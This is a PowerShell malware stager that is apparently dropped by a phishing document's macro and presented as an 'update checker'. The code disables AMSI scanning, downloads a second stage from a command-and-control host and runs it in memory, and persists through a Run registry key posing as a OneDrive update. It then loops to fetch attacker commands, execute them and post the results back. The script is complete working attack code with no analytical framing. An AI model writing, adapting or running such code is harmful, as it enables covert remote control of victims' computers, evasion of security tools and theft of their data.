# "Update checker" dropped by the phishing document (macro runs: powershell -w hidden -f update-check.ps1)
$ErrorActionPreference = 'SilentlyContinue'
$ProgressPreference = 'SilentlyContinue'

$c2 = 'https://cdn-updates.azureedge-sync.net'
$id = [guid]::NewGuid().ToString('N').Substring(0, 12)

# 1. blind AMSI for this process
$a = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
$a.GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)

# 2. second stage straight into memory
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')
$wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
IEX $wc.DownloadString("$c2/api/v2/stage?id=$id")

# 3. persistence: run at logon for the current user
$cmd = "powershell -nop -w hidden -c `"IEX (New-Object Net.WebClient).DownloadString('$c2/api/v2/stage')`""
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveUpdate' -Value $cmd

# 4. beacon
while ($true) {
    try {
        $task = Invoke-RestMethod -Uri "$c2/api/v2/task?id=$id" -UseBasicParsing
        if ($task.cmd) {
            $out = (Invoke-Expression $task.cmd 2>&1 | Out-String)
            Invoke-RestMethod -Uri "$c2/api/v2/result?id=$id" -Method Post -Body $out -UseBasicParsing | Out-Null
        }
    }
    catch { }
    Start-Sleep -Seconds (Get-Random -Minimum 30 -Maximum 90)
}
